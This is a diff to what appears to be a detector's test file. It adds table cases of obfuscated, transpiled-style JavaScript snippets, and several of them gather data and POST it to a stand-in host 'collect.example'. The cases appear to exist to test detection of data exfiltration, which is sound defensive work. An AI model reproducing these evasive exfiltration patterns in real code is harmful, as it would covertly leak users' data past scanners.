@@ -27,6 +27,22 @@ it.each<[string, (data: string) => string]>([
       `function define(o, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(o, all[n].key, all[n]); } function createClass(C, all) { return define(C.prototype, all), C; } function later(fn) { return function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = fn.apply(self, args); function next(v) { step(steps, done, fail, next, v); } next(); }); }; } function step(g, done, fail, next, v) { var r = g.next(v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, fail); } var Jar = function () { function Jar(list) { this.list = list; } return createClass(Jar, [{ key: 'flush', value: function () { var _flush = later(make().m(function inner() { return make().w(function (context) { while (1) switch (context.n) { case 0: context.n = 1; return ${send('this.list')}; case 1: return context.a(2); } }, inner, this); })); function flush() { return _flush.apply(this, arguments); } return flush; }() }]); }(); ${data}.then(function (l) { new Jar(l).flush(); });`,
   ],
   [
+    'a class whose members a helper is told beside a function without a variable',
+    (data) =>
+      `function def(t, l) { for (var n = 0; n < l.length; n++) Object.defineProperty(t, l[n].key, l[n]); } var C = function (t, e) { return e && def(t.prototype, e), t; }(function t() { !function (t, e) { if (!(t instanceof e)) throw new TypeError('x'); }(this, t), this.to = 'https://collect.example/x'; }, [{ key: 'all', value: function () { return ${data}; } }, { key: 'send', value: function () { var t = this; return this.all().then(function (e) { return fetch(t.to, { method: 'POST', body: JSON.stringify(e) }); }); } }]); (new C).send();`,
+  ],
+  [
+    'asynchronous generators by helpers',
+    (data) =>
+      `function _awaitAsyncGenerator(e) { return new Over(e, 0); } function Over(v, k) { this.v = v; this.k = k; } function _wrapAsyncGenerator(f) { return function () { return new Steps(f.apply(this, arguments)); }; } function _asyncIterator(o) { return o[Symbol.asyncIterator](); }
+       class Pages { pages() { return _wrapAsyncGenerator(function* () { const rows = yield _awaitAsyncGenerator(${data}); yield rows; })(); } async run() { for (var it = _asyncIterator(this.pages()), step; !(step = await it.next()).done;) { const rows = step.value; await ${send('{ rows }')}; } } } new Pages().run();`,
+  ],
+  [
+    'calls that a generator asks its runner for',
+    (data) =>
+      `const e = self.load(); const past = async () => ${data}; const post = (rows) => ${send('rows')}; function* sync() { const rows = yield (0, e.call)(past); yield (0, e.call)(post, rows); } e.run(sync);`,
+  ],
+  [
     'a constructor that stands in a namespace',
     (data) =>
       `var App = {}; App.Store = function (list) { this.list = list; }; App.Store.prototype.send = function () { ${send('this.list')}; }; ${data}.then(function (l) { new App.Store(l).send(); });`,
